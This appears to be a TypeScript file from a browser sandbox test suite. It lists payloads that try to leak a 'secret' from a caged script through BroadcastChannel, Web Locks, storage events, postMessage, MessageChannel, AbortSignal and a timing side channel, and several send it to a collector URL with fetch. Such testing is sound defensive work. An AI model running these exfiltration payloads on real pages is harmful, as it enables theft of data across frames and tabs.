import type { Payload } from '../payload.ts';
import { byScript, inCell, onlyHere, sameText, soon, type Script } from './sameText.ts';

/** Speaks to another document of the browser, which sends on what it hears: there, a frame of the page itself. */
const spoken = (
	id: string,
	channel: string,
	{ speak, listen }: { speak: string; listen: string }
): Payload => ({
	id,
	channel,
	realm: 'cage',
	cells: inCell(() => `for (let n = 0; n < 3; n++) { ${speak}; await ${soon}; }`),
	control: byScript(listener(speak, listen))
});

/** `listen` calls `tell` with what it hears. */
const listener =
	(speak: string, listen: string): Script =>
	({ http }) =>
		`const frame = document.createElement('iframe');\nframe.srcdoc = ${JSON.stringify(
			`<script>const tell = (heard) => fetch('${http}?' + heard, { mode: 'no-cors' }); ${listen}</scr`
		)} + 'ipt>';\ndocument.body.append(frame);\nfor (let n = 0; n < 20; n++) { ${speak}; await new Promise((again) => setTimeout(again, 100)); }`;

/** Whoever else is in the browser: other tabs, the frame around, the page above. */
export const realtime: readonly Payload[] = [
	spoken('broadcast', 'BroadcastChannel', {
		speak: `new BroadcastChannel('kladde').postMessage(secret)`,
		listen: `new BroadcastChannel('kladde').onmessage = ({ data }) => tell(data)`
	}),
	spoken('web-locks', 'Web Locks', {
		speak: `navigator.locks.request('thief ' + secret, { mode: 'shared' }, () => new Promise(() => {}))`,
		listen: `setInterval(async () => { for (const { name } of (await navigator.locks.query()).held) if (name.startsWith('thief ')) tell(name.slice(6)); }, 100)`
	}),
	spoken('storage-event', 'storage event', {
		speak: `globalThis.localStorage.setItem('thief-event', secret + n)`,
		listen: `addEventListener('storage', ({ newValue }) => tell(newValue))`
	}),
	spoken('post-to-windows', 'postMessage', {
		speak: `for (const other of [globalThis.parent, globalThis.opener, globalThis.top, globalThis, ...Array.from({ length: globalThis.parent?.length ?? 0 }, (_, at) => globalThis.parent[at]), ...Array.from(globalThis.frames ?? [])]) try { other?.postMessage({ kladde: 'here', secret }, '*'); } catch {}\nfor (let at = 0; at < (globalThis.length ?? 0); at++) globalThis[at].postMessage({ secret }, '*')`,
		listen: `addEventListener('message', ({ data }) => tell(data.secret))`
	}),
	sameText(
		'message-channel',
		'MessageChannel',
		({ http }) =>
			`const { port1, port2 } = new MessageChannel();\nport1.onmessage = ({ data }) => globalThis.fetch('${http}?' + data, { mode: 'no-cors' });\nport2.postMessage(secret); await ${soon}`
	),
	sameText(
		'cloned-port',
		'structuredClone',
		({ http }) =>
			`const made = new MessageChannel();\nconst { port } = structuredClone({ port: made.port2 }, { transfer: [made.port2] });\nmade.port1.onmessage = ({ data }) => globalThis.fetch('${http}?' + data, { mode: 'no-cors' });\nport.postMessage(secret); await ${soon}`
	),
	sameText(
		'abort-listener',
		'EventTarget',
		({ http }) =>
			`const signal = AbortSignal.timeout(1);\nsignal.addEventListener('abort', () => globalThis.fetch('${http}?' + secret, { mode: 'no-cors' })); await ${soon}`
	),
	onlyHere('timing', 'time that another realm takes', {
		script: () =>
			`for (const letter of secret) { const until = performance.now() + (letter.charCodeAt(0) % 2 ? 5 : 0); while (performance.now() < until); await 0; }`,
		why: 'a second realm of the thief’s would have to be there to measure it'
	})
];
